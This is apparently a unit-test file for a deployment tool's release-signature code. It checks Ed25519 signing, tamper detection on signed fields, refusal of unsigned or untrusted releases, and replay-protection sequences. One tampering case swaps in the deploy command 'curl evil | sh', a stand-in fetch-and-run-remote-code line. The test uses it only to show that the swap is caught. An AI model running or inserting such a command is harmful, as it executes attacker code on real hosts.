// Release signatures (src/apps/release-signature.ts): what is covered, what is carried over a
// change, and why an agent refuses a release. Pure: keys made in memory.

import { describe, expect, test } from "bun:test";
import { createPublicKey, generateKeyPairSync } from "node:crypto";
import { AppSpec } from "../../src/config/app-spec.ts";
import { encodeZnode, decodeZnode } from "../../src/config/decode.ts";
import { type SigningKey, type TrustedKey, fingerprintOf, rawPublicKey } from "../../src/config/signing-keys.ts";
import { describeSigning, releasePayload, sealRelease, untrustedRelease } from "../../src/apps/release-signature.ts";
import { SAMPLE_SPEC } from "../helpers/sample-spec.ts";

function newKey(): { signer: SigningKey; trusted: TrustedKey } {
  const { privateKey } = generateKeyPairSync("ed25519");
  const publicKey = rawPublicKey(createPublicKey(privateKey));
  const fingerprint = fingerprintOf(publicKey);
  return { signer: { privateKey, publicKey, fingerprint }, trusted: { publicKey, fingerprint, source: "test" } };
}

const NOW = new Date("2026-11-26T12:00:00.000Z");
const release = newKey();
const other = newKey();
const spec: AppSpec = { ...SAMPLE_SPEC };
const signed = sealRelease("web", undefined, spec, release.signer, NOW);

describe("signing", () => {
  test("a signed spec verifies, survives the znode round trip, and names its key", () => {
    expect(signed.signature?.sequence).toBe(NOW.getTime());
    const read = decodeZnode(AppSpec, encodeZnode(AppSpec, signed), "/apps/web");
    expect(untrustedRelease("web", read, [release.trusted])).toBeUndefined();
    expect(describeSigning("web", read)).toEqual({
      signed: true,
      fingerprint: release.signer.fingerprint,
      sequence: NOW.getTime(),
      intact: true,
    });
    expect(release.signer.fingerprint).toMatch(/^SHA256:[A-Za-z0-9+/]{43}$/);
  });

  test.each<[string, Partial<AppSpec>]>([
    ["version", { version: "6.6.6" }],
    ["rolloutId", { rolloutId: "rother0000" }],
    ["previousVersion", { previousVersion: "0.1" }],
    ["get-version-cmd", { getVersionCmd: "id" }],
    ["deploy-cmd", { deployCmd: "curl evil | sh" }],
    ["verify-cmd added", { verifyCmd: "true" }],
    ["health-cmd added", { healthCmd: "true" }],
    ["drain-cmd added", { drainCmd: "true" }],
    ["undrain-cmd added", { undrainCmd: "true" }],
    ["groups", { groups: ["db"] }],
  ])("changing %s after signing is detected", (_, change) => {
    const tampered = { ...signed, ...change };
    expect(untrustedRelease("web", tampered, [release.trusted])).toContain("does not match its contents");
    expect(describeSigning("web", tampered)).toMatchObject({ signed: true, intact: false });
  });

  test("the app's name is covered: a release signed for one app does not verify for another", () => {
    expect(untrustedRelease("billing", signed, [release.trusted])).toContain("does not match its contents");
  });

  test("a changed sequence is detected (it cannot be raised to outrun replay protection)", () => {
    const raised = { ...signed, signature: { ...(signed.signature ?? { key: "", value: "", sequence: 0 }), sequence: NOW.getTime() + 1 } };
    expect(untrustedRelease("web", raised, [release.trusted])).toContain("does not match its contents");
  });

  test.each<[string, Partial<AppSpec>]>([
    ["slots", { slots: 9 }],
    ["paused", { paused: true }],
    ["max failures", { maxFailures: "10%" }],
    ["canary", { canary: 1, promoted: true }],
    ["updatedAt/By", { updatedAt: "2027-01-01T00:00:00.000Z", updatedBy: "someone" }],
  ])("%s is not covered (how fast, not what runs)", (_, change) => {
    expect(untrustedRelease("web", { ...signed, ...change }, [release.trusted])).toBeUndefined();
  });

  test("unsigned, and signed by a key not trusted, are refused with their reason", () => {
    expect(untrustedRelease("web", spec, [release.trusted])).toContain("not signed");
    expect(untrustedRelease("web", signed, [other.trusted])).toBe(
      `the release is signed by ${release.signer.fingerprint}, which is not one of this agent's trustedKeys`,
    );
    expect(untrustedRelease("web", signed, [other.trusted, release.trusted])).toBeUndefined();
  });

  test("the payload is the same whatever the order of the spec's keys", () => {
    const reordered = Object.fromEntries(Object.entries(signed).reverse()) as AppSpec;
    expect(releasePayload("web", reordered, 1).equals(releasePayload("web", signed, 1))).toBe(true);
  });
});

describe("sealRelease: a change keeps, renews or drops the signature", () => {
  test("a change that leaves every signed field alone keeps it (pause, set-slots)", () => {
    const after = sealRelease("web", signed, { ...signed, paused: true, slots: 5 }, undefined, NOW);
    expect(after.signature).toEqual(signed.signature);
  });

  test("a new rollout without a key drops it: unsigned, not tampered", () => {
    const after = sealRelease("web", signed, { ...signed, rolloutId: "rnext00000" }, undefined, NOW);
    expect(after.signature).toBeUndefined();
    expect(untrustedRelease("web", after, [release.trusted])).toContain("not signed");
  });

  test("the sequence is the signing time, or one more than the same key's last if that is later", () => {
    const later = sealRelease("web", signed, { ...signed, rolloutId: "rnext00000" }, release.signer, new Date(NOW.getTime() + 5_000));
    expect(later.signature?.sequence).toBe(NOW.getTime() + 5_000);
    const skewed = sealRelease("web", signed, { ...signed, rolloutId: "rnext00000" }, release.signer, new Date(NOW.getTime() - 60_000));
    expect(skewed.signature?.sequence).toBe(NOW.getTime() + 1);
    // Another key's (or a forged) sequence does not push ours: only the signer's own history counts.
    const forged = {
      ...signed,
      signature: { ...(signed.signature ?? { key: "", value: "", sequence: 0 }), sequence: 9_000_000_000_000_000 },
    };
    const mine = sealRelease("web", forged, { ...signed, rolloutId: "rnext00000" }, other.signer, NOW);
    expect(mine.signature?.sequence).toBe(NOW.getTime());
  });
});
